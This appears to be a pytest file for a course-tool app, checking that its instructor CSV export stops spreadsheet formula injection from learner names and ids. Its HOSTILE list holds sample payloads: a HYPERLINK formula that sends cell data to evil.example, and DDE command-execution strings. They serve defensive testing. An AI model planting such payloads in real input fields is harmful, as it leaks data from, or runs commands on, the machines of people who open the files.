"""CSV formula injection (issue 8, point 9): a learner's LMS name or id must never become a formula in the
instructor's spreadsheet. OWASP's advice: a cell that starts with =, +, -, @, tab or carriage return is
prefixed with a single quote, so spreadsheet programs read it as text.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import datetime

import pytest

from courseware import load_content
from lti_app.services.report_export import ExportAttempt, csv_lines, header, row
from lti_app.services.reports import SyncState
from sandbox_lms import sign_id_token

from .conftest import CONTENT_DIR
from .lti_harness import INSTRUCTOR, Lms, csrf_of, start_lms
from .test_lti_rejections import post_launch, start_login

CONTENT = load_content(CONTENT_DIR)
LTI = "https://purl.imsglobal.org/spec/lti/claim/"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


OBJECTIVES = [o.id for o in CONTENT.objectives]


def export_csv(rows: list[tuple[str, str, ExportAttempt | None]]) -> str:
    """The export's own writer over (name, user id, attempt) rows, as the streamed download writes them."""
    return "".join(csv_lines([header(OBJECTIVES), *(row(n, sub, a, OBJECTIVES) for n, sub, a in rows)]))


@pytest.mark.parametrize("hostile", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_formula_cells_are_neutralised(hostile: str):
    body = export_csv([(hostile, hostile, None)])
    learner = rows_of(body)[1]
    assert learner[0] == "'" + hostile and learner[1] == "'" + hostile


def test_attempt_rows_are_neutralised_too_and_numbers_are_untouched():
    attempt = ExportAttempt(
        number=1,
        status="submitted",
        started_at=datetime(2026, 1, 1, 10, 0, 0),
        submitted_at=datetime(2026, 1, 1, 10, 5, 0),
        correct=12,
        total=18,
        score=12 / 18,
        passed=True,
        by_objective={},
        sync=SyncState("failed", message="-1 from the LMS"),
    )
    names, learner = rows_of(export_csv([("=1+1", "@learner", attempt)]))
    cells = dict(zip(names, learner, strict=True))
    assert cells["learner"] == "'=1+1" and cells["user_id"] == "'@learner"
    assert cells["correct"] == "12" and cells["score_percent"] == "67" and cells["duration_seconds"] == "300"
    assert cells["grade_sync"] == "failed: -1 from the LMS"


def test_ordinary_names_are_exported_verbatim():
    body = export_csv([("Ada Lovelace-King", "learner-1", None)])
    assert rows_of(body)[1][:2] == ["Ada Lovelace-King", "learner-1"]


# --- end to end: a learner's LMS name, through a launch, into the instructor's download ------------------


@pytest.fixture(scope="module")
def lms(tmp_path_factory) -> Iterator[Lms]:
    with start_lms(tmp_path_factory.mktemp("lms-csv")) as running:
        running.add_link("diagnostic")
        yield running


def test_learner_named_like_a_formula_is_text_in_the_instructors_csv(lms: Lms):
    browser, q, claims = start_login(lms)
    claims["sub"] = "-learner-from-elsewhere"  # not on the NRPS roster: the name comes from the launch
    claims["name"] = HOSTILE[0]
    launched = post_launch(
        lms, browser, {"id_token": sign_id_token(lms.sandbox_app, claims), "state": q["state"]}
    )
    assert launched.status_code == 303
    intro = browser.get(lms.tool_url + launched.headers["Location"], timeout=10)
    started = browser.post(intro.url + "start", data={"csrf_token": csrf_of(intro.text)}, timeout=10)
    assert "/q/1" in started.url

    instructor = lms.browser()
    view = lms.launch(instructor, INSTRUCTOR, lms.links["diagnostic"])
    assert "/i/" in view.url
    export = instructor.get(re.sub(r"/$", "", view.url) + "/export.csv", timeout=10)
    rows = rows_of(export.text)
    learner = next(row for row in rows if "learner-from-elsewhere" in row[1])
    assert learner[0] == "'" + HOSTILE[0] and learner[1] == "'-learner-from-elsewhere"
    assert not any(cell.startswith(TRIGGERS) for row in rows for cell in row)
